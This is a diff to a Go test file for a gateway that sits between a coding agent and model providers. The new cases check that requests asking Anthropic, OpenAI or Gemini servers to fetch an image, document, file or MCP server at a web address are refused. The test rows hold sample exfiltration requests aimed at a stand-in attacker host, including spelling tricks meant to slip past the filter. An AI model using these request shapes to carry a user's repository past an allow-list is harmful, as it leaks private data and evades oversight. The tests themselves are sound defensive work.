@@ -197,7 +197,8 @@ func BenchmarkModelRequest(b *testing.B) {
 // TestGatewayServerFetch: an agent holding only the placeholder asks the
 // provider, in a model call the gateway would pass, to connect somewhere
 // for it (Anthropic's MCP connector or web fetch tool, OpenAI's remote
-// MCP tool, Gemini's URL context): the provider's servers
+// MCP tool, Gemini's URL context, an image or file given by a web
+// address for the provider to download): the provider's servers
 // would carry the repository past the step's allow-list. Each such call
 // is refused before it reaches the upstream, however the member is
 // spelled; model calls that only use the agent's own tools pass.
@@ -227,6 +228,11 @@ func TestGatewayServerFetch(t *testing.T) {
 			{"MCP toolset", `{"model":"m","tools":[{"type":"mcp_toolset","mcp_server_name":"x"}],"messages":[]}`, 403},
 			{"web fetch", `{"model":"m","tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[{"role":"user","content":"fetch ` + exfil + `"}]}`, 403},
 			{"web fetch behind a duplicate type", `{"model":"m","tools":[{"type":"web_fetch_20250910","type":"custom","name":"web_fetch"}],"messages":[]}`, 403},
+			{"image by URL", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"` + exfil + `"}}]}]}`, 403},
+			{"document by URL, type spelled in upper case", `{"model":"m","messages":[{"role":"user","content":[{"type":"document","source":{"url":"` + exfil + `","type":"URL"}}]}]}`, 403},
+			{"image inline, and a fetch the CLI made itself in the history", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]},` +
+				`{"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"WebFetch","input":{"url":"https://docs.example/x","prompt":"read"}}]}]}`, 200},
+			{"deeply nested", `{"model":"m","metadata":` + strings.Repeat("[", 100000) + strings.Repeat("]", 100000) + `}`, 400},
 			{"not JSON", `model=m&mcp_servers=x`, 400},
 			{"two JSON values", `{"model":"m"}{"mcp_servers":[]}`, 400},
 		}},
@@ -234,12 +240,18 @@ func TestGatewayServerFetch(t *testing.T) {
 			{"function tools", `{"model":"m","input":"hi","tools":[{"type":"function","name":"shell","parameters":{}}]}`, 200},
 			{"remote MCP", `{"model":"m","input":"hi","tools":[{"type":"mcp","server_label":"x","server_url":"` + exfil + `"}]}`, 403},
 			{"remote MCP, escaped type", `{"model":"m","input":"hi","tools":[{"type":"\u006dcp","server_url":"` + exfil + `"}]}`, 403},
+			{"image by URL", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"` + exfil + `"}]}]}`, 403},
+			{"file by URL", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":" HTTPS://attacker.example/x"}]}]}`, 403},
+			{"chat image by URL", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"` + exfil + `"}}]}]}`, 403},
+			{"image as a data URL", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,iVBORw0KGgo="}]}]}`, 200},
 			{"web search (Codex's default tool)", `{"model":"m","input":"hi","tools":[{"type":"web_search","external_web_access":false}]}`, 200},
 		}},
 		{ProviderGemini, "/", "/v1beta/models/gemini-x:generateContent", "X-Goog-Api-Key", []row{
 			{"function declarations and search", `{"contents":[],"tools":[{"functionDeclarations":[{"name":"f"}]},{"googleSearch":{}}]}`, 200},
 			{"URL context", `{"contents":[{"parts":[{"text":"` + exfil + `"}]}],"tools":[{"urlContext":{}}]}`, 403},
 			{"URL context, snake case", `{"contents":[],"tools":[{"url_context":{}}]}`, 403},
+			{"file by web address", `{"contents":[{"parts":[{"fileData":{"mimeType":"text/html","fileUri":"` + exfil + `"}}]}]}`, 403},
+			{"a web address in the text", `{"contents":[{"parts":[{"text":"see ` + exfil + `"}]}]}`, 200},
 		}},
 	}
 	for _, pr := range providers {
